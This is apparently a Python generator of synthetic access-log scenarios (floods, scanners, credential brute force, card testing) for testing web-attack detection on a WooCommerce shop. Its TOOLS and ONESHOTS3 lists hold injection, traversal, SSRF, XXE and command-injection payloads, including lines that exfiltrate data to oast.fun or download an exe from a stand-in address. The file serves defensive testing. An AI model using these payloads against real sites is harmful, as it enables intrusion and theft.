SCEN["fake_googlebot_flood"] = _flood("176.97.211.1", 40, 60, GB_UA, lambda: "/product/%s/" % random.choice(PRODUCTS), desc="flood 40/s 60 s with Googlebot's UA from a non-Google address, product pages")
SCEN["fake_googlebot_flood2"] = _flood("176.97.211.2", 40, 60, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/131.0.6778.69 Safari/537.36", lambda: "/?s=%d" % random.randint(1, 10**6), desc="search flood 40/s 60 s with Googlebot smartphone/desktop UA, non-Google address")
SCEN["fake_bingbot_flood"] = _flood("176.97.211.3", 40, 60, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", lambda: "/product/%s/" % random.choice(PRODUCTS), desc="flood 40/s 60 s with bingbot UA, non-Microsoft address")
SCEN["fake_uptimerobot_flood"] = _flood("176.97.211.4", 40, 60, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", lambda: "/", desc="GET / flood 40/s 60 s with UptimeRobot UA")
SCEN["admin_ajax_flood"] = _flood("176.97.211.5", 30, 60, BROWSERS[0], lambda: "/wp-admin/admin-ajax.php", method="POST", ref=SITE + "/", desc="POST /wp-admin/admin-ajax.php flood 30/s 60 s (classic WP DoS), Referer of the site")
SCEN["video_range_flood"] = _flood("176.97.211.6", 20, 60, BROWSERS[0], lambda: "/wp-content/uploads/2026/10/lookbook.mp4", stfn=lambda t: 206, desc="bandwidth flood: 20/s 60 s of GET video.mp4 answered 206 (Range)")
SCEN["search_10ps_5min"] = _flood("176.97.211.7", 10, 300, BROWSERS[0], lambda: "/?s=%s&post_type=product" % random.choice(WORDS + ["x%d" % random.randint(1, 999)]), stfn=lambda t: random.choice([200, 200, 200, 504]), ref=SITE + "/", desc="low-rate search flood 10/s for 5 min, Referer of the site, some 504")
SCEN["flood_15s"] = _flood("176.97.211.8", 40, 15, BROWSERS[0], lambda: random.choice(["/", "/product-category/sale/", "/product/%s/" % random.choice(PRODUCTS)]), desc="short flood 40/s for 15 s, pages, some 503")
SCEN["post_search_flood"] = _flood("176.97.211.9", 30, 60, "python-requests/2.31.0", lambda: "/wp-json/wc/store/v1/products?search=%d" % random.randint(1, 10**6), desc="WooCommerce Store API search flood 30/s 60 s")
SCEN["xmlrpc_flood"] = _flood("176.97.211.10", 30, 60, BROWSERS[0], lambda: "/xmlrpc.php", method="POST", stfn=lambda t: 200, desc="POST /xmlrpc.php flood 30/s 60 s answered 200 (pingback/multicall DoS)")
SCEN["cart_add_flood"] = _flood("176.97.211.11", 25, 60, BROWSERS[0], lambda: "/?wc-ajax=add_to_cart", method="POST", stfn=lambda t: 200, ref=SITE + "/product/classic-cotton-tee/", desc="POST /?wc-ajax=add_to_cart flood 25/s 60 s (card-testing/cart bot), Referer of a product")
SCEN["checkout_cardtest"] = _flood("176.97.211.12", 2, 600, BROWSERS[0], lambda: "/?wc-ajax=checkout", method="POST", stfn=lambda t: 200, ref=SITE + "/checkout/", desc="card testing: POST /?wc-ajax=checkout 2/s for 10 min (answered 200 with payment error), Referer checkout")
SCEN["head_scan_browser"] = lambda L: (fuzz(L, "91.92.243.21", 200, 0, BROWSERS[0], MED, delay=(0.3, 0.6)), dict(ips=["91.92.243.21"], kind="scanner", desc="wordlist 2/s browser UA (directory-list-2.3-medium)"))[1]
SCEN["fake_googlebot_scan"] = lambda L: (fuzz(L, "91.92.243.22", 200, 10, GB_UA, MED), dict(ips=["91.92.243.22"], kind="scanner", desc="wordlist 10/s with Googlebot UA from a non-Google address"))[1]
SCEN["chrome_scan_10"] = lambda L: (fuzz(L, "91.92.243.23", 200, 10, BROWSERS[0], MED), dict(ips=["91.92.243.23"], kind="scanner", desc="wordlist 10/s Chrome UA (directory-list-2.3-medium)"))[1]
SCEN["video_range_flood40"] = _flood("176.97.211.13", 40, 60, BROWSERS[0], lambda: "/wp-content/uploads/2026/10/lookbook.mp4", stfn=lambda t: 206, desc="bandwidth flood: 40/s 60 s of GET video.mp4 answered 206 (Range)")
SCEN["pdf_flood"] = _flood("176.97.211.14", 20, 60, "python-requests/2.31.0", lambda: "/wp-content/uploads/2026/10/catalogue-2026.pdf", stfn=lambda t: 200, desc="bandwidth flood: 20/s 60 s GET of one 20 MB PDF answered 200")
SCEN["image_flood"] = _flood("176.97.211.15", 40, 60, BROWSERS[0], lambda: "/wp-content/uploads/2026/%02d/%s-1-300x300.jpg" % (random.randint(1, 11), random.choice(PRODUCTS)), stfn=lambda t: 200, desc="asset flood 40/s 60 s of product images (static), Chrome UA")
def _flood_sz(ip, rate, dur, ua, path, status, size, desc):
    def f(L):
        t = 120; n = 0
        while t < 120 + dur:
            L.add(t, ip, "GET", path, status, size=size, ua=ua); t += random.expovariate(rate); n += 1
        return dict(ips=[ip], kind="flood", desc="%s (%d req)" % (desc, n))
    return f
SCEN["pdf_flood_sz"] = _flood_sz("176.97.211.16", 20, 60, "python-requests/2.31.0", "/wp-content/uploads/2026/10/catalogue-2026.pdf", 200, 20971520, "bandwidth flood 20/s 60 s of one 20 MB PDF, 200")
SCEN["mp4_flood_sz"] = _flood_sz("176.97.211.17", 40, 60, BROWSERS[0], "/wp-content/uploads/2026/10/lookbook.mp4", 206, 1048576, "bandwidth flood 40/s 60 s of one mp4, 206 1 MB ranges")
SCEN["zip_flood_sz"] = _flood_sz("176.97.211.18", 30, 60, "Wget/1.21.4", "/downloads/size-guide.zip", 200, 5242880, "bandwidth flood 30/s 60 s of one 5 MB zip, wget UA")
NIKTO = """/ /robots.txt /?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000 /?=PHPE9568F36-D428-11d2-A769-00AA001ACF42 /icons/README /cgi-bin/test-cgi /cgi-bin/printenv /servlet/SnoopServlet
/phpMyAdmin/ /admin/ /manager/status /jmx-console/ /web-console/ /test/ /tmp/ /_vti_bin/_vti_aut/author.dll /_vti_inf.html /postinfo.html /xmlrpc.php
/help/ /doc/ /examples/ /iisadmpwd/aexp.htr /scripts/samples/search/webhits.exe /msadc/msadcs.dll /CFIDE/administrator/index.cfm /server-info /.htaccess
/cgi-bin/php /cgi-bin/php5 /index.php?module=My_eGallery /login.php /admin.php /install/ /webalizer/ /stats/ /awstats/awstats.pl /usage/ /logs/ /config/""".split()
def s_nikto_ua(L):
    ip = "91.92.243.30"; t = 200; ua = random.choice(BROWSERS)
    for p in NIKTO:
        L.add(t, ip, "GET", p, 200 if p in ("/", "/robots.txt", "/xmlrpc.php") else 404, ua=ua); t += random.expovariate(20)
    return dict(ips=[ip], kind="scanner", desc="nikto -useragent Chrome -Tuning default, first %d requests ~20/s" % len(NIKTO))
SCEN["nikto_ua"] = s_nikto_ua
SCEN["openvas"] = lambda L: (fuzz(L, "91.92.243.31", 200, 20, "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)", MED[:60]), dict(ips=["91.92.243.31"], kind="scanner", desc="OpenVAS default UA, 60 generic paths"))[1]
SCEN["nessus"] = lambda L: (fuzz(L, "91.92.243.32", 200, 20, BROWSERS[0], ["NessusTest%d.html" % i for i in range(3)] + MED[:40]), dict(ips=["91.92.243.32"], kind="scanner", desc="Nessus web-app tests /NessusTestN.html then generic paths"))[1]
def s_author_enum(L):
    ip = "103.151.125.20"; t = 100; ua = random.choice(BROWSERS)
    L.add(t, ip, "GET", "/wp-json/wp/v2/users", 200, ua=ua); t += 1
    for i in range(1, 21):
        L.add(t, ip, "GET", "/?author=%d" % i, 301 if i <= 3 else 404, ua=ua); t += random.uniform(0.3, 1.5)
    return dict(ips=[ip], kind="scanner", desc="user enumeration with a browser UA: /wp-json/wp/v2/users + ?author=1..20")
SCEN["author_enum"] = s_author_enum
def s_xmlrpc_chrome_slow(L):
    ip = "103.151.125.21"; t = 60
    while t < DUR - 5:
        L.add(t, ip, "POST", "/xmlrpc.php", 200, size=random.randint(30000, 90000), ua=BROWSERS[0]); t += random.uniform(5, 15)
    return dict(ips=[ip], kind="bf", desc="xmlrpc system.multicall guessing (each POST hundreds of guesses) every 5-15 s, Chrome UA")
SCEN["xmlrpc_chrome_slow"] = s_xmlrpc_chrome_slow
def s_joomla_admin(L):
    ip = "103.151.125.22"; t = 60
    while t < 600:
        L.add(t, ip, "GET", "/administrator/index.php", 200, ua=BROWSERS[0]); t += 0.4
        L.add(t, ip, "POST", "/administrator/index.php", 303, ua=BROWSERS[0], ref=SITE + "/administrator/index.php"); t += random.uniform(1, 3)
    return dict(ips=[ip], kind="bf", desc="Joomla admin brute force: GET form + POST /administrator/index.php 303 with Referer, every 1.5-3.5 s")
SCEN["joomla_admin"] = s_joomla_admin
SCEN["graphql_introspect"] = _subset([], "x", "")  # placeholder
def s_graphql_introspect(L):
    ip = "91.92.243.33"; t = 200
    for p in ["/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D", "/api/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D", "/graphiql", "/v1/graphql?query=%7B__typename%7D", "/graphql/console", "/playground"]:
        L.add(t, ip, "GET", p, 404, ua="python-requests/2.31.0"); t += 0.5
    return dict(ips=[ip], kind="scanner", desc="GraphQL endpoint discovery + introspection (graphw00f/clairvoyance style), 6 req")
SCEN["graphql_introspect"] = s_graphql_introspect
SCEN["flood_404"] = _flood("176.97.211.20", 30, 60, BROWSERS[0], lambda: "/%s" % "".join(random.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8)), stfn=lambda t: 404, desc="404 flood 30/s 60 s random paths (cache-miss DoS)")
SCEN["http10_noua"] = _flood("176.97.211.21", 40, 60, "-", lambda: "/", stfn=lambda t: 200, desc="GET / HTTP/1.0-style flood with no UA 40/s 60 s")
def s_rudy(L):
    ip = "176.97.211.22"; n = 0
    for k in range(10):
        t = 120 + 60 * k
        for i in range(100):
            L.add(t + random.uniform(0, 0.5), ip, "POST", "/?wc-ajax=checkout", 408, size=0, ua=BROWSERS[0]); n += 1
    return dict(ips=[ip], kind="flood", desc="R.U.D.Y slow POST: 100 sockets, each POST logged 408 at client_body_timeout, every 60 s x10 (%d lines)" % n)
SCEN["rudy"] = s_rudy
def s_basic_slow(L):
    ip = "193.35.18.90"; t = 60
    while t < DUR - 5:
        L.add(t, ip, "GET", "/wp-admin/", 401, ua=BROWSERS[0]); t += random.uniform(8, 12)
    return dict(ips=[ip], kind="bf", desc="hydra http-get -t 1 -W 10 basic auth /wp-admin/ 401, Chrome UA (documented gap: slower than one per ~7 s)")
SCEN["basic_slow"] = s_basic_slow
def s_joomla_admin_noref(L):
    ip = "103.151.125.23"; t = 60
    while t < 600:
        L.add(t, ip, "GET", "/administrator/index.php", 200, ua=BROWSERS[0]); t += 0.4
        L.add(t, ip, "POST", "/administrator/index.php", 303, ua=BROWSERS[0]); t += random.uniform(1, 3)
    return dict(ips=[ip], kind="bf", desc="Joomla admin brute force: GET form + POST /administrator/index.php 303, no Referer, every 1.5-3.5 s")
SCEN["joomla_admin_noref"] = s_joomla_admin_noref
def s_joomla_admin_fast(L):
    ip = "103.151.125.24"; t = 60
    while t < 300:
        L.add(t, ip, "GET", "/administrator/index.php", 200, ua=BROWSERS[0]); t += 0.1
        L.add(t, ip, "POST", "/administrator/index.php", 303, ua=BROWSERS[0], ref=SITE + "/administrator/index.php"); t += random.expovariate(4)
    return dict(ips=[ip], kind="bf", desc="Joomla admin brute force: GET form + POST 303 with Referer, ~3 guesses/s")
SCEN["joomla_admin_fast"] = s_joomla_admin_fast
SCEN["none"] = lambda L: dict(ips=[], kind="flood", desc="background only")
PANELS = """/remote/login /dana-na/auth/url_default/welcome.cgi /global-protect/login.esp /vpn/index.html /owa/auth/logon.aspx /+CSCOE+/logon.html /grafana/login /jenkins/login
/manager/html /solr/ /zabbix/index.php /webmin/ /nagios/ /cacti/ /kibana/app/kibana /app/kibana /console/login/LoginForm.jsp /nacos/ /druid/index.html /pma/ /phpmyadmin/
/adminer.php /login.action /portainer/ /rancher/ /argocd/ /jupyter/login /tree /lab /airflow/login/ /superset/welcome /metabase/ /sonarqube/ /nexus/ /harbor/sign-in
/gitlab/users/sign_in /users/sign_in /user/login /wp-login.php /administrator/ /admin/login /admin/ /login /signin /auth/login /ui/ /dashboard/ /kubernetes-dashboard/
/prometheus/graph /graph /alertmanager/ /consul/ui/ /ui/vault/auth /vault/ /minio/login /rabbitmq/ /#/login /splunk/en-US/account/login /en-US/account/login
/cgi-bin/luci /webui/ /hp/device/webAccess/index.htm /dvwa/login.php /owncloud/ /nextcloud/ /roundcube/ /webmail/ /squirrelmail/ /horde/ /zimbra/ /sogo/""".split()
def s_nuclei_panels(L, ip="45.148.10.70", rate=5, ua=None):
    ua = ua or random.choice(BROWSERS); t = 100; n = 0
    for p in PANELS:
        L.add(t, ip, "GET", p, 200 if p in ("/wp-login.php",) else 404, ua=ua); t += random.expovariate(rate); n += 1
    return dict(ips=[ip], kind="scanner", desc="nuclei -tags panel (exposed-panels) -rl %d, browser UA (%d req)" % (rate, n))
SCEN["nuclei_panels"] = s_nuclei_panels
SCEN["nuclei_panels_fast"] = lambda L: s_nuclei_panels(L, ip="45.148.10.71", rate=150)
TECH = """/ /favicon.ico /robots.txt /sitemap.xml /.well-known/security.txt /humans.txt /ads.txt /manifest.json /crossdomain.xml /browserconfig.xml /wp-json/ /feed/ /api/ /api/v1/ /api/v2/ /swagger/ /swagger/index.html /api-docs /openapi.json /docs /redoc /health /healthz /status /version /info /ping /metrics""".split()
def s_nuclei_tech(L):
    ip = "45.148.10.72"; t = 100; ua = random.choice(BROWSERS); n = 0
    for p in TECH + PANELS[:20]:
        L.add(t, ip, "GET", p, 200 if p in ("/", "/favicon.ico", "/robots.txt", "/sitemap.xml", "/wp-json/", "/feed/") else 404, ua=ua); t += random.expovariate(10); n += 1
    return dict(ips=[ip], kind="scanner", desc="nuclei tech/exposure + panels templates, browser UA, ~10/s (%d req)" % n)
SCEN["nuclei_tech"] = s_nuclei_tech
def s_slash24_20x4(L):
    ips = ["185.156.74.%d" % i for i in random.sample(range(2, 250), 20)]; t = 120; n = 0
    while t < 240:
        L.add(t, random.choice(ips), "GET", "/product/%s/?%d" % (random.choice(PRODUCTS), random.randint(1, 10**6)), random.choice([200, 503]), ua=BROWSERS[0], ref=SITE + "/"); t += random.expovariate(80); n += 1
    return dict(ips=ips, kind="flood", desc="L7 flood 20 addresses of one /24 at ~4/s each (80/s total), one UA, 120 s (%d req)" % n)
SCEN["slash24_20x4"] = s_slash24_20x4
def s_slash24_20x8(L):
    ips = ["185.156.75.%d" % i for i in random.sample(range(2, 250), 20)]; t = 120; n = 0
    while t < 240:
        L.add(t, random.choice(ips), "GET", random.choice(["/", "/shop/", "/product-category/sale/"]), random.choice([200, 503]), ua=random.choice(BROWSERS)); t += random.expovariate(160); n += 1
    return dict(ips=ips, kind="flood", desc="L7 flood 20 addresses of one /24 at ~8/s each (160/s total), 3 pages, random UA, 120 s (%d req)" % n)
SCEN["slash24_20x8"] = s_slash24_20x8
def _slowtok(ip, path, st, gap):
    def f(L):
        t = 30
        while t < DUR - 5:
            L.add(t, ip, "POST", path, st, ua="python-requests/2.31.0"); t += gap * random.uniform(0.8, 1.2)
        return dict(ips=[ip], kind="bf", desc="POST %s %d every %d s for 20 min" % (path, st, gap))
    return f
SCEN["tok_10s"] = _slowtok("193.35.19.1", "/api/v1/sessions", 401, 10)
SCEN["tok_30s"] = _slowtok("193.35.19.2", "/oauth/token", 400, 30)
SCEN["tok_60s"] = _slowtok("193.35.19.3", "/api/auth/token", 401, 60)
SCEN["tok_fast_400_sessions"] = _slowtok("193.35.19.4", "/api/v1/sessions", 400, 0.5)
TOOLS = {
 "tplmap": ("/?s=%s", ["{{7*'7'}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{*7*7*}", "@(7*7)", "{{'a'.toUpperCase()}}", "${{7*7}}", "{php}echo 7*7;{/php}", "#set($x=7*7)${x}", "{{range.constructor(\"return 1\")()}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"]),
 "nosqlmap": ("/api/v1/products?%s", ["name[$ne]=1", "name[$regex]=.*", "name[$gt]=", "id[$where]=sleep(5000)", "username[$ne]=x&password[$ne]=x", "name=';return true;var x='", "q={\"$where\":\"sleep(5000)\"}"]),
 "dotdotpwn": ("/download?file=%s", ["../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252f..%252fetc%252fpasswd", "....//....//....//etc/passwd", "..%c0%af..%c0%af..%c0%afetc/passwd", "/etc/passwd%00.jpg", "..\\..\\..\\windows\\win.ini", "%uff0e%uff0e%u2215etc%u2215passwd", "file:///etc/passwd"]),
 "ssrfmap": ("/fetch?url=%s", ["http://127.0.0.1:22", "http://localhost:6379/", "http://0.0.0.0:8080/", "http://[::]:80/", "http://0177.0.0.1/", "http://2130706433/", "http://127.1/", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stats", "http://169.254.169.254/latest/user-data"]),
 "xxe-param": ("/api/import?xml=%s", ["<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://oast.fun/x.dtd\">%x;]><r/>", "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]><foo>&xxe;</foo>"]),
 "openredirect-scan": ("/?%s", ["next=//evil.com", "redirect=https://evil.com", "url=//evil.com/%2f..", "return_to=/\\evil.com", "returnUrl=https:evil.com", "continue=%2F%2Fevil.com", "dest=//google.com%2F%2E%2E", "goto=http://evil.com@shop.example"]),
 "crlfuzz": ("/%s", ["%0d%0aSet-Cookie:crlfuzz=1", "%0aSet-Cookie:crlfuzz=1", "%e5%98%8a%e5%98%8dSet-Cookie:crlfuzz=1", "%E5%98%8D%E5%98%8ASet-Cookie:crlfuzz=1", "%u000aSet-Cookie:crlfuzz=1", "%%0a0aSet-Cookie:crlfuzz=1", "%0d%0a%09Set-Cookie:crlfuzz=1", "?%0d%0aSet-Cookie:crlfuzz=1"]),
 "ghauri": ("/product/?id=%s", ["1' AND 8471=8471-- wXyW", "1'XOR(if(now()=sysdate(),SLEEP(6),0))XOR'Z", "1' AND (SELECT(0)FROM(SELECT(SLEEP(6)))a)-- wXyW", "1'OR NOT 5491=5491-- wXyW", "1)AND(SELECT 2 FROM(SELECT(SLEEP(6)))x)-- -", "(SELECT(0)FROM(SELECT(SLEEP(6)))a)", "1 OR 7126=7126"]),
 "sqli-json": ("/api/v1/products?filter=%s", ["{\"id\":\"1' OR '1'='1\"}", "{\"name\":{\"$ne\":null}}", "{\"id\":\"1 UNION SELECT password FROM users--\"}", "{\"q\":\"x') OR SLEEP(5)#\"}"]),
 "wincmd": ("/ping?host=%s", ["127.0.0.1|whoami", "127.0.0.1&dir c:\\", "127.0.0.1&&type c:\\windows\\win.ini", "x|cmd /c ping -n 5 oast.fun", "x;powershell -nop -c iwr oast.fun", "x&FOR /F %i in ('whoami') do nslookup %i.oast.fun", "x&IF EXIST c:\\windows\\win.ini (ping -n 5 127.0.0.1)", "x|certutil -urlcache -split -f http://1.2.3.4/a.exe a.exe"]),
}
def mk_tool(tag, base, pays, i):
    def f(L):
        ip = "5.188.63.%d" % (i + 1); t = 100; ua = random.choice(BROWSERS)
        for p in pays:
            L.add(t, ip, "GET", base % up.quote(p, safe="/=&:?.%$[]"), random.choice([200, 404, 500]), ua=ua); t += random.uniform(0.5, 2)
        return dict(ips=[ip], kind="oneshotish", desc="%s (%d req, browser UA)" % (tag, len(pays)))
    return f
for _i, (_k, (_b, _p)) in enumerate(TOOLS.items()):
    SCEN["tool_" + _k] = mk_tool(_k, _b, _p, _i)
SCEN["rapid_reset"] = _flood("176.97.211.30", 200, 30, "-", lambda: "/", stfn=lambda t: 499, desc="HTTP/2 rapid reset (CVE-2023-44487): every stream cancelled, nginx logs 499, 200/s 30 s")
SCEN["flood_499_browser"] = _flood("176.97.211.31", 40, 60, BROWSERS[0], lambda: "/product/%s/" % random.choice(PRODUCTS), stfn=lambda t: 499, desc="flood 40/s 60 s where the client hangs up (499), Chrome UA")
def s_headless_assets(L):
    ip = "176.97.211.32"; t = 120; n = 0
    while t < 180:
        p = "/product/%s/" % random.choice(PRODUCTS)
        L.add(t, ip, "GET", p, random.choice([200, 503]), ua="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36"); n += 1
        for a in ASSETS[:6]:
            L.add(t + random.uniform(0.01, 0.2), ip, "GET", a, 200, ua="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36", ref=SITE + p); n += 1
        t += random.expovariate(8)
    return dict(ips=[ip], kind="flood", desc="headless Chrome (puppeteer) flood: 8 pages/s + their 6 assets (56 req/s) 60 s, 503s (%d req)" % n)
SCEN["headless_assets"] = s_headless_assets
def _rep(ip, m, pathfn, st, gap, ua, ref="-", dur=600, desc=""):
    def f(L):
        t = 60; n = 0
        while t < 60 + dur:
            L.add(t, ip, m, pathfn(), st, ua=ua, ref=ref); n += 1; t += gap * random.uniform(0.7, 1.3)
        return dict(ips=[ip], kind="bf", desc="%s (%d req)" % (desc, n))
    return f
SCEN["apikey_bf"] = _rep("193.35.20.1", "GET", lambda: "/api/v1/orders?api_key=%032x" % random.getrandbits(128), 401, 0.2, "python-requests/2.31.0", desc="API key brute force GET /api/v1/orders?api_key=RANDOM 401 at 5/s")
SCEN["bearer_bf"] = _rep("193.35.20.2", "GET", lambda: "/api/v1/me", 401, 0.3, "okhttp/4.12.0", desc="stolen/guessed bearer token validation GET /api/v1/me 401 at ~3/s")
SCEN["coupon_bf"] = _rep("193.35.20.3", "POST", lambda: "/?wc-ajax=apply_coupon", 200, 0.5, BROWSERS[0], ref=SITE + "/cart/", desc="coupon code brute force POST /?wc-ajax=apply_coupon 200 at 2/s, Referer /cart/")
SCEN["lostpw_bomb"] = _rep("193.35.20.4", "POST", lambda: "/wp-login.php?action=lostpassword", 302, 1.0, BROWSERS[0], desc="password-reset bombing POST /wp-login.php?action=lostpassword 302 at 1/s")
SCEN["register_spam"] = _rep("193.35.20.5", "POST", lambda: "/wp-login.php?action=register", 302, 2.0, BROWSERS[0], desc="registration spam POST /wp-login.php?action=register 302 every 2 s")
SCEN["cf7_spam"] = _rep("193.35.20.6", "POST", lambda: "/wp-json/contact-form-7/v1/contact-forms/5/feedback", 200, 1.0, BROWSERS[0], desc="contact form spam CF7 REST 200 at 1/s")
SCEN["otp_bf"] = _rep("193.35.20.7", "POST", lambda: "/api/v1/auth/verify-otp", 400, 0.5, "okhttp/4.12.0", desc="OTP / 2FA code brute force POST /api/v1/auth/verify-otp 400 at 2/s")
SCEN["otp_bf401"] = _rep("193.35.20.8", "POST", lambda: "/api/v1/2fa/verify", 401, 0.5, "okhttp/4.12.0", desc="2FA code brute force POST /api/v1/2fa/verify 401 at 2/s")
def mk_nuclei_shuf(seed, rate):
    def f(L):
        rnd = random.Random(seed); ps = NUCLEI_PATHS[:]; rnd.shuffle(ps); ip = "45.148.11.%d" % seed; t = 100; ua = BROWSERS[seed % len(BROWSERS)]
        for p in ps:
            st = 200 if p in ("/sitemap.xml", "/readme.html", "/license.txt", "/?author=1", "/wp-includes/wlwmanifest.xml") or p.startswith("/wp-json") else (405 if p == "/xmlrpc.php" else 404)
            L.add(t, ip, "GET", p, st, ua=ua); t += random.expovariate(rate)
        return dict(ips=[ip], kind="scanner", desc="nuclei shuffled order seed %d rate %s" % (seed, rate))
    return f
for _s in range(1, 21):
    SCEN["nshuf%d" % _s] = mk_nuclei_shuf(_s, 5 if _s % 2 else 150)
def s_scraper10(L):
    ip = "176.97.210.40"; t = 120; n = 0
    for p in PRODUCTS * 10:
        L.add(t, ip, "GET", "/product/%s/" % p, 200, ua="python-requests/2.31.0"); t += random.expovariate(10); n += 1
    return dict(ips=[ip], kind="scrape", desc="scraper every product page 10/s for ~3.5 min, python-requests, no assets (%d req)" % n)
SCEN["scraper10"] = s_scraper10
def s_scraper_scrapy(L):
    ip = "176.97.210.41"; t = 120; n = 0
    for p in PRODUCTS * 10:
        L.add(t, ip, "GET", "/product/%s/?page=%d" % (p, random.randint(1, 9)), 200, ua="Scrapy/2.11.2 (+https://scrapy.org)"); t += random.expovariate(16); n += 1
    return dict(ips=[ip], kind="scrape", desc="Scrapy default (16 concurrent) ~16/s, no robots respect (%d req)" % n)
SCEN["scraper_scrapy"] = s_scraper_scrapy
ONESHOTS3 = [
 ("tomcat-semicolon", "GET", "/..;/manager/html", 404, "Mozilla/5.0", "-"),
 ("tomcat-semicolon2", "GET", "/;/actuator/env", 404, "Mozilla/5.0", "-"),
 ("spring-bypass", "GET", "/admin/..;/actuator/heapdump", 404, "Mozilla/5.0", "-"),
 ("dot-bypass", "GET", "/%2e/wp-admin/", 404, "Mozilla/5.0", "-"),
 ("trace", "TRACE", "/", 405, "Mozilla/5.0", "-"),
 ("track", "TRACK", "/", 405, "Mozilla/5.0", "-"),
 ("debug-iis", "DEBUG", "/default.aspx", 405, "Mozilla/5.0", "-"),
 ("propfind-root", "PROPFIND", "/", 405, "Mozilla/5.0", "-"),
 ("acme-traversal", "GET", "/.well-known/acme-challenge/..%2f..%2f..%2fetc%2fpasswd", 400, "Mozilla/5.0", "-"),
 ("debugbar", "GET", "/_debugbar/open?max=20&offset=0", 404, "Mozilla/5.0", "-"),
 ("clockwork", "GET", "/__clockwork/app", 404, "Mozilla/5.0", "-"),
 ("wp-json-users-leak", "GET", "/?rest_route=/wp/v2/users", 200, "Mozilla/5.0", "-"),
 ("vite-fs", "GET", "/@fs/etc/passwd?import&raw??", 404, "Mozilla/5.0", "-"),
 ("nextjs-middleware", "GET", "/_next/static/../../../../etc/passwd", 400, "Mozilla/5.0", "-"),
 ("grafana-traversal", "GET", "/public/plugins/alertlist/../../../../../../../../etc/passwd", 400, "Mozilla/5.0", "-"),
 ("jolokia", "POST", "/jolokia/exec", 404, "Mozilla/5.0", "-"),
 ("mssql-xp", "GET", "/?id=1;EXEC%20xp_cmdshell('ping%20oast.fun')--", 200, "Mozilla/5.0", "-"),
 ("oracle-ebs", "POST", "/OA_HTML/SyncServletBridge", 404, "Mozilla/5.0", "-"),
 ("sap-netweaver", "POST", "/developmentserver/metadatauploader", 404, "Mozilla/5.0", "-"),
 ("sharepoint-toolpane", "POST", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", 404, "Mozilla/5.0", "-"),
 ("fortiweb", "GET", "/api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi", 404, "Mozilla/5.0", "-"),
 ("citrix-bleed2", "POST", "/p/u/doAuthentication.do", 404, "Mozilla/5.0", "-"),
 ("erlang-otp", "GET", "/cgi-bin/nph-mr.cgi?do=x", 404, "Mozilla/5.0", "-"),
 ("craftcms", "POST", "/index.php?p=admin/actions/assets/generate-transform", 404, "Mozilla/5.0", "-"),
 ("next-middleware-2025", "GET", "/admin", 404, "Mozilla/5.0", "-"),
]
def s_oneshots3(L):
    ips = []; t = 30
    for i, (name, m, p, st, ua, ref) in enumerate(ONESHOTS3):
        ip = "198.20.%d.%d" % (i // 200, i % 200 + 1)
        L.add(t, ip, m, p, st, ua=ua, ref=ref); ips.append((ip, name)); t += 7
    return dict(ips=ips, kind="oneshot", desc="one-request probes 3")
SCEN["oneshots3"] = s_oneshots3
_ALL3 = {o[0]: o[1:] for o in ONESHOTS3}
def s_kev2025(L):
    ips = []; t = 30
    for i, n in enumerate(["sap-netweaver", "sharepoint-toolpane", "citrix-bleed2", "oracle-ebs", "craftcms", "jolokia", "debugbar", "trace", "track", "debug-iis"]):
        m, p, st, ua, ref = _ALL3[n]
        ip = "192.0.2.%d" % (101 + i); L.add(t, ip, m, p, st, ua=ua, ref=ref); ips.append((ip, n)); t += 11
    return dict(ips=ips, kind="oneshot", desc="kev 2025")
SCEN["kev2025"] = s_kev2025
SCEN["basic_fast_chrome"] = _rep("193.35.21.1", "GET", lambda: "/wp-admin/", 401, 0.2, BROWSERS[0], dur=300, desc="hydra http-get basic auth -t 4 with Chrome UA, 5/s")
SCEN["basic_3s_chrome"] = _rep("193.35.21.2", "GET", lambda: "/admin/", 401, 3.0, BROWSERS[0], dur=1000, desc="hydra http-get basic auth -t 1 -W 3 with Chrome UA, one every 3 s")
SCEN["basic_5s_chrome"] = _rep("193.35.21.3", "GET", lambda: "/private/", 401, 5.0, BROWSERS[0], dur=1000, desc="basic auth guessing one every 5 s, Chrome UA")
def s_v6_56(L):
    t = 120; n = 0; ips = set()
    while t < 180:
        ip = "2a0e:97c0:3e3:1a%02x:%x:%x:%x:%x" % tuple([random.randint(0, 255)] + [random.randint(0, 0xffff) for _ in range(4)]); ips.add(ip)
        L.add(t, ip, "GET", "/?%d" % random.randint(1, 10**6), random.choice([200, 503]), ua=BROWSERS[0]); t += random.expovariate(40); n += 1
    return dict(ips=sorted(ips), kind="flood", desc="IPv6 flood, a new /64 of one /56 every request, 40/s 60 s (%d req)" % n)
SCEN["v6_56"] = s_v6_56
